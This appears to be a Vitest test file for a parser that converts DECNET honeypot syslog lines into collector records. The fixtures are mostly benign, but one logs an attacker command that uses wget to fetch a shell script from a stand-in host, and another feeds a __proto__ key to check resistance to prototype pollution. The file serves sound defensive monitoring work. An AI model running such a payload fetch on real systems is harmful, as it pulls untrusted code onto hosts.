import { describe, expect, it } from 'vitest';
import { formatRfc5424 } from './format';
import { parseDecnetLine, toDecnetJson, type DecnetLineResult } from './decnet-record';

function record(r: DecnetLineResult) {
  if (r.kind !== 'record') throw new Error(`expected record, got ${r.kind}`);
  return r.record;
}

const NOW = Date.UTC(2026, 5, 20, 12, 0, 0);

describe('parseDecnetLine', () => {
  it('maps a DECNET line to the collector record', () => {
    const line = '<134>1 2026-06-20T04:41:07.123456+00:00 web-01 ssh - auth_attempt [relay@55555 username="root" src_ip="203.0.113.9" src_port="51234"] ok';
    const r = record(parseDecnetLine(line));
    expect(r).toEqual({
      timestamp: '2026-06-20T04:41:07.123Z',
      decky: 'web-01',
      service: 'ssh',
      eventType: 'auth_attempt',
      attackerIp: '203.0.113.9',
      fields: { username: 'root', src_ip: '203.0.113.9', src_port: '51234' },
      msg: 'ok',
      rawLine: line,
      severity: 6,
    });
    expect(toDecnetJson(r)).toEqual({
      timestamp: '2026-06-20 04:41:07',
      decky: 'web-01',
      service: 'ssh',
      event_type: 'auth_attempt',
      attacker_ip: '203.0.113.9',
      fields: { username: 'root', src_ip: '203.0.113.9', src_port: '51234' },
      msg: 'ok',
      raw_line: line,
    });
  });

  it('round-trips what the formatter writes', () => {
    const line = formatRfc5424({
      hostname: 'db-02', appName: 'mysql', msgid: 'auth', timestamp: '2026-01-02T03:04:05.000Z',
      params: { username: 'sa"]\\', src_ip: '192.0.2.1', src_port: 4000 },
    });
    const r = record(parseDecnetLine(line));
    expect(r.fields.username).toBe('sa"]\\');
    expect(r).toMatchObject({ decky: 'db-02', service: 'mysql', eventType: 'auth', attackerIp: '192.0.2.1' });
  });

  it('splits host:port into attackerIp and fields.remote_port', () => {
    const r = record(parseDecnetLine('<134>1 2026-01-01T00:00:00Z d http - request [relay@55555 remote_addr="198.51.100.7:55001" path="/"]'));
    expect(r.attackerIp).toBe('198.51.100.7');
    expect(r.fields.remote_port).toBe('55001');
    expect(r.fields.remote_addr).toBe('198.51.100.7:55001');
  });

  it('turns MSGID - with a CMD body into a command and finds src= in MSG', () => {
    const r = record(parseDecnetLine('<13>1 2026-01-01T00:00:00Z deck bash - - - CMD uid=0 user=root src=203.0.113.50 pwd=/root cmd=wget http://x/y.sh'));
    expect(r.eventType).toBe('command');
    expect(r.attackerIp).toBe('203.0.113.50');
    expect(r.fields).toEqual({});
    expect(r.msg).toBe('CMD uid=0 user=root src=203.0.113.50 pwd=/root cmd=wget http://x/y.sh');
  });

  it('keeps MSGID - as the event type otherwise, and reports no attacker as null / Unknown', () => {
    const r = record(parseDecnetLine('<134>1 2026-01-01T00:00:00Z d conpot - - - plain text'));
    expect(r.eventType).toBe('-');
    expect(r.attackerIp).toBeNull();
    expect(toDecnetJson(r).attacker_ip).toBe('Unknown');
  });

  it('unwraps a logger line that a container syslog daemon wrapped again', () => {
    const inner = '<13>1 2026-01-01T00:00:01Z - bash - command [relay@55555 cmd="id" src_ip="192.0.2.77"] CMD id';
    const r = record(parseDecnetLine(`<14>1 2026-01-01T00:00:02Z deck-7 rsyslogd - - - ${inner}`));
    expect(r).toMatchObject({ decky: 'deck-7', service: 'bash', eventType: 'command', attackerIp: '192.0.2.77' });
    expect(r.timestamp).toBe('2026-01-01T00:00:01.000Z');
  });

  it('drops host daemon apps by default and honours a custom drop list', () => {
    const sshd = '<38>1 2026-01-01T00:00:00Z deck sshd 812 - - Accepted password for root from 192.0.2.1 port 22';
    expect(parseDecnetLine(sshd)).toEqual({ kind: 'dropped', appName: 'sshd' });
    expect(parseDecnetLine(sshd, { dropApps: [] }).kind).toBe('record');
    expect(record(parseDecnetLine(sshd, { dropApps: [] })).attackerIp).toBe('192.0.2.1');
    for (const app of ['pam_unix', 'sudo', 'su', 'CRON', 'cron', 'systemd', 'kernel', 'rsyslogd', 'dbus-daemon']) {
      expect(parseDecnetLine(`<38>1 - deck ${app} - - -`).kind).toBe('dropped');
    }
  });

  it('reads the legacy decnet@55555 element and ignores foreign ones', () => {
    const r = record(parseDecnetLine('<134>1 - d s - e [timeQuality tzKnown="1"][decnet@55555 src_ip="192.0.2.3"]', { now: () => NOW }));
    expect(r.fields).toEqual({ src_ip: '192.0.2.3' });
    expect(r.timestamp).toBe('2026-06-20T12:00:00.000Z');
  });

  it('keeps a __proto__ param as data', () => {
    const r = record(parseDecnetLine('<134>1 - d s - e [relay@55555 __proto__="x" src_ip="192.0.2.3"]'));
    expect(Object.getPrototypeOf(r.fields)).toBe(Object.prototype);
    expect(Object.keys(r.fields)).toEqual(['__proto__', 'src_ip']);
  });

  it('returns invalid (never throws) for garbage', () => {
    const r = parseDecnetLine('not syslog at all');
    expect(r.kind).toBe('invalid');
    if (r.kind === 'invalid') expect(r.error.code).toBe('bad_pri');
  });
});
